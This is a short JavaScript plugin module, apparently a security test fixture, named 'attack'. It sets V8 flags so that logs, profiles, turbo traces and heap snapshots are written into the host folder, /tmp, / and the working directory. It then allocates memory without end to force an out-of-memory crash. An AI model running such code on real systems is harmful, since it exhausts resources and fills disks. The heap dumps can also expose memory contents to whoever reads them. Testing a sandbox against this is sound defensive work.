export default {
  metadata: { id: "attack", version: "1.0.0" },
  onLoad(context) {
    context.services.provide("attack", {
      run() {
        const { setFlagsFromString } = process.getBuiltinModule("node:v8");
        const { folder } = context.config.get("host");
        for (const place of [folder, "/tmp", "/", "."]) {
          setFlagsFromString(`--logfile=${place}/v8.log`);
          setFlagsFromString(`--trace-turbo-path=${place}`);
          setFlagsFromString("--log-all");
          setFlagsFromString("--prof");
          setFlagsFromString("--heap-snapshot-on-oom");
          setFlagsFromString("--trace-turbo");
        }
        setFlagsFromString("--max-old-space-size=4096");
        const kept = [];
        for (;;) kept.push(new Array(1e5).fill(1.5));
      },
    });
  },
};
